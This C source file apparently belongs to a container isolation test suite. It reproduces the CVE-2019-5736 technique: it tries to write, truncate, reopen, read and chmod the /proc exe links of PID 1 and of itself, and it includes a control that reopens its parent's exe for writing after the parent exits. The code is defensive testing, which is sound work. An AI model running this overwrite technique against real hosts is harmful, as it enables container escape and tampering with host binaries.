/* SPDX-License-Identifier: Apache-2.0 */
/* Attack 8 (CVE-2019-5736): overwrite a program of the host through a process's exe link. As
 * the command it tries every process that it sees; `exe overwrite` is the control, a program
 * with the classic hole: its child keeps an O_PATH descriptor of /proc/PID/exe and opens that
 * for writing as soon as the program has ended. */
#include "attempt.h"

#include <sys/stat.h>

static long write_open(const void *data)
{
    int fd = open(data, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    return write(fd, "", 0);
}

static long truncate_it(const void *data)
{
    return truncate(data, 0);
}

static long reopen(const void *data)
{
    char path[64];
    int fd = open(data, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return -1;
    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    return open(path, O_WRONLY | O_CLOEXEC);
}

static long read_it(const void *data)
{
    return read_something(data);
}

static long unseal(const void *data)
{
    int fd = open(data, O_RDONLY | O_CLOEXEC);
    return fd < 0 ? -1 : fchmod(fd, 0777);
}

static void try_all(const char *who)
{
    static const struct {
        const char *name;
        long (*attack)(const void *data);
    } attacks[] = {
        {"write", write_open}, {"truncate", truncate_it}, {"reopen", reopen},
        {"read", read_it},     {"chmod", unseal},
    };
    char path[300];
    char name[300];
    (void)snprintf(path, sizeof(path), "/proc/%.200s/exe", who);
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        (void)snprintf(name, sizeof(name), "%.200s_%s", who, attacks[i].name);
        attempt_with(name, attacks[i].attack, path);
    }
}

/* The control: overwrite the program that is our parent, once it is no longer running. */
static long overwrite_parent(void)
{
    char path[64];
    (void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)getppid());
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return -1;
    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    /* what the CVE waits for: the program no longer runs, but its file is still at hand */
    char *const argv[] = {(char *)"exe", (char *)"again", path, NULL};
    (void)fcntl(fd, F_SETFD, 0);
    return execv("/proc/self/cwd/other", argv);
}

static int write_again(const char *path)
{
    for (int tries = 0; tries < 2000; tries++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            report("overwrite", write(fd, "OVERWRITTEN", 11), errno);
            return 0;
        }
        (void)usleep(1000);
    }
    report("overwrite", -1, errno);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "again") == 0)
        return write_again(argv[2]);
    if (argc == 2 && strcmp(argv[1], "overwrite") == 0) {
        if (fork() == 0)
            _exit(overwrite_parent() < 0 ? errno : 0);
        (void)usleep(50000);
        return 0;
    }
    try_all("1");
    /* this program itself is the clone's, not the host's: written, it must not reach the
     * template */
    try_all("self");
    return 0;
}
